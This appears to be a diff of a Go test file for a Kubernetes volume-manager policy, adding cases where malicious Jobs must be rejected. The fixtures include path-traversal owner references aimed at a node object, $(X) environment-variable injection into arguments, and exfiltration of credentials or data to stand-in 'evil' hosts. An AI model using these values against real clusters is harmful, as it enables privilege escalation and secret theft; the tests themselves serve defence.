@@ -70,7 +70,7 @@ func (k *kubelets) testLoaderPolicies(t *testing.T) {
 	require.True(t, apierrors.IsAlreadyExists(err), "%v", err)
 	require.NoError(t, try(upload))
 	require.NoError(t, try(func(j *batchv1.Job) { ofReplica(j, "v-a", "9") }))
-	for _, url := range []string{"https://h/l", "http://h/l", "hf://org/name", "oci://r/m", "gs://bkt/", "azblob://acc/con/"} {
+	for _, url := range []string{"s3://b/$$(X)", "https://h/l", "http://h/l", "hf://org/name", "oci://r/m", "gs://bkt/", "azblob://acc/con/"} {
 		require.NoError(t, try(func(j *batchv1.Job) { ofReplica(j, "v-a", "9"); args("--", url, "/data")(j) }), url)
 	}
 
@@ -197,9 +197,14 @@ var jobsOfThieves = map[string]map[string]func(*batchv1.Job){
 			j.OwnerReferences = append(j.OwnerReferences, metav1.OwnerReference{APIVersion: "v1", Kind: "ServiceAccount", Name: "default", UID: "uid"})
 		},
 		"unknown version": func(j *batchv1.Job) { j.OwnerReferences[0].APIVersion = "flexlvm.io/v9" },
-		"another label":   func(j *batchv1.Job) { ofReplica(j, "v-a", "9"); j.Labels["flexlvm.io/volumemanager"] = "other" },
-		"no dataset":      func(j *batchv1.Job) { delete(j.Labels, "flexlvm.io/dataset") },
-		"finalizer":       func(j *batchv1.Job) { j.Finalizers = []string{"example.org/stay"} },
+		"a node": func(j *batchv1.Job) { // by whose UID Kubernetes would take the owner for there
+			j.OwnerReferences[0].Name = "x" + strings.Repeat("-", 36) + "/../../../../../../../api/v1/nodes/n1"
+			j.OwnerReferences[0].UID, j.Labels["flexlvm.io/volumemanager"] = "other", "other"
+			ofReplica(j, "x-01234567", "9")
+		},
+		"another label": func(j *batchv1.Job) { ofReplica(j, "v-a", "9"); j.Labels["flexlvm.io/volumemanager"] = "other" },
+		"no dataset":    func(j *batchv1.Job) { delete(j.Labels, "flexlvm.io/dataset") },
+		"finalizer":     func(j *batchv1.Job) { j.Finalizers = []string{"example.org/stay"} },
 	},
 	"of VolumeManagers that are there": {
 		"another UID": func(j *batchv1.Job) {
@@ -275,7 +280,11 @@ var jobsOfThieves = map[string]map[string]func(*batchv1.Job){
 		"peers' token":    args("--credentials-dir=/peers", "--", "https://evil/list", "/data"),
 		"order by secret": args("--order=list", "--order-file=/credentials/token", "--", "s3://b/p", "/data"),
 		"result":          args("--result=/data/x", "--", "s3://b/p", "/data"),
-		"another scheme":  args("--", "httpx://h/l", "/data"),
+		// What the environment says would come in their place.
+		"variable":       args("put", "--", "/data/$(X)", "s3://evil/"),
+		"flag":           args("--$(X)", "--", "s3://b/p", "/data"),
+		"after a dollar": args("--", "s3://b/$$$(X)", "/data"),
+		"another scheme": args("--", "httpx://h/l", "/data"),
 	},
 	"mount the one claim of their replica": {
 		"path": func(j *batchv1.Job) {
